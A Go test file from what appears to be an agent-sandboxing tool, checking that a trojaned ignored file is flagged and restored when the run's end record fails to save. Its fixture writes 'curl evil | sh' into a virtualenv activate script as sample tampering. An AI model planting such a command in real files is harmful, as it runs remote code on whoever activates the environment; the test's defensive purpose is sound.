package runner

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// A coder that fills the file system the state dir is on makes the record
// of the place after the run fail to save (and git's own report with it):
// the comparison, made in memory, is still the report — the ignored file
// it trojaned is listed and flagged — and the run fails, saying undo needs
// --force, which still puts the place back. Never "done" with nothing told.
func TestInPlaceReportSurvivesAnEndRecordThatCannotBeSaved(t *testing.T) {
	t.Parallel()

	p, c, _ := inPlaceFixture(t)
	id := c.rec.ID
	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
	// The manifest cannot be written where a directory holds its name,
	// as it cannot on a full disk.
	dir, err := c.store.RecordDir(id)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Join(dir, "after.json", "x"), 0o700); err != nil {
		t.Fatal(err)
	}
	var errs []string
	emit := func(_ journal.Lane, k journal.Kind, text string, _ any) {
		if k == KindError {
			errs = append(errs, text)
		}
	}
	gitErr := errors.New("git add: fatal: unable to write loose object file: No space left on device")
	ch, err, unreported := endCheckpoint(c, id, nil, InPlaceChange{}, gitErr, emit)
	if err != nil {
		t.Fatalf("the checkpoint's comparison did not stand in for git's: %v", err)
	}
	if !slices.Contains(ch.Files, ".venv/bin/activate") || !slices.ContainsFunc(ch.Flagged, func(f Flag) bool { return f.Path == ".venv/bin/activate" }) {
		t.Fatalf("the trojaned ignored file is not reported and flagged: %+v", ch)
	}
	if unreported == nil || !strings.Contains(unreported.Error(), "sentinel undo "+id) || !strings.Contains(unreported.Error(), "--force") {
		t.Fatalf("want the failed save told with how to undo, got %v", unreported)
	}
	if len(errs) != 1 {
		t.Fatalf("want the failed save told once as an error, got %q", errs)
	}
	if res := failUnreported(Result{Status: StatusDone}, unreported); res.Status != StatusFailed || res.Err == nil {
		t.Fatalf("a run whose end record failed ended %v", res.Status)
	}
	if res := failUnreported(Result{Status: StatusInterrupted}, unreported); res.Status != StatusInterrupted {
		t.Fatalf("an interrupted run became %v", res.Status)
	}
	if err := os.RemoveAll(filepath.Join(dir, "after.json")); err != nil {
		t.Fatal(err)
	}
	if _, err := Undo(context.Background(), p, id, UndoOptions{}); err == nil || !strings.Contains(err.Error(), "--force") {
		t.Fatalf("want undo to ask for --force, got %v", err)
	}
	if _, err := Undo(context.Background(), p, id, UndoOptions{Force: true}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(p.Root, ".venv/bin/activate")); string(b) != "export VIRTUAL_ENV=x\n" {
		t.Fatalf("undo --force did not put the script back: %q", b)
	}
}

// With no checkpoint and git unable to tell, the run fails: nothing of
// what it changed was reported.
func TestInPlaceRunFailsWhenNothingCouldBeTold(t *testing.T) {
	t.Parallel()
	_, err, unreported := endCheckpoint(nil, "x", nil, InPlaceChange{}, errors.New("git: no space"), noEmit)
	if err == nil || unreported == nil {
		t.Fatalf("want git's failure kept and the run failed, got %v, %v", err, unreported)
	}
	if res := failUnreported(Result{Status: StatusDone}, nil); res.Status != StatusDone {
		t.Fatalf("a fully reported run became %v", res.Status)
	}
}
